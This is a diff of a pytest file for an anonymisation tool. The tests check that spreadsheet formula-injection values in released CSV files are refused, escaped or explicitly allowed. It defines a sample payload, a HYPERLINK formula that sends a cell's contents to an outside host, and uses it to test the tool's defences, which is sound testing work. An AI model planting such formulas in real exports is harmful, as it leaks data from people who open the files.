@@ -11,10 +11,11 @@ import pytest
 import yaml
 
 import maskwright as mw
-from maskwright.core.formulas import escape, would_run
+from maskwright.domain.spreadsheets import escape_cell, would_run
 from maskwright.errors import InputError
-from maskwright.verify import verify
-from patients import HEADER, POLICY, leftovers, patients, write_csv
+from maskwright.verification.verify import verify
+from tests.amounts import crossed
+from tests.patients import HEADER, POLICY, leftovers, patients, write_csv
 
 EVIL = '=HYPERLINK("http://x/?"&A1)'
 
@@ -33,16 +34,17 @@ def table(path: Path, column: str, value: str = EVIL) -> Path:
 
 
 def dangerous(folder: Path) -> list[str]:
-    """Cells of any CSV file in a folder that a spreadsheet would run."""
+    """Cells of any CSV file in a folder that a spreadsheet would run; copies of hierarchy files are what they were."""
     found = []
-    for path in sorted(folder.rglob("*.csv")):
+    for path in sorted(p for p in folder.rglob("*.csv") if p.parent.name != "hierarchies"):
         with path.open(newline="", encoding="utf-8") as file:
             found += [f"{path.name}: {cell}" for row in csv.reader(file) for cell in row if would_run(cell)]
     return found
 
 
-@pytest.mark.parametrize("column", ["disease", "ward", "sex", "zip"])
-@pytest.mark.parametrize("recoding", ["generalise", "bucketize", "permute"])
+@pytest.mark.parametrize(
+    ("column", "recoding"), crossed(["disease", "ward", "sex", "zip"], ["generalise", "bucketize", "permute"])
+)
 def test_values_are_refused_escaped_or_allowed(tmp_path: Path, column: str, recoding: str) -> None:
     source, out = table(tmp_path, column), tmp_path / "release"
     exact = policy(recoding=recoding, method={"name": "mondrian"})
@@ -58,7 +60,7 @@ def test_values_are_refused_escaped_or_allowed(tmp_path: Path, column: str, reco
     assert verify(out).ok
     assert verify(out, recount_only=True).ok
     written = "".join(p.read_text(encoding="utf-8") for p in (out / "public").glob("*.csv"))
-    assert escape(EVIL) in written.replace('""', '"')
+    assert escape_cell(EVIL) in written.replace('""', '"')
     assert all(t["escaped"] for t in json.loads((out / "public" / "manifest.json").read_text())["tables"])
     assert "apostrophe" in (out / "public" / "data-card.html").read_text(encoding="utf-8")
     mw.anonymize(source, exact | {"output": {"formulas": "allow"}}, out, overwrite=True)
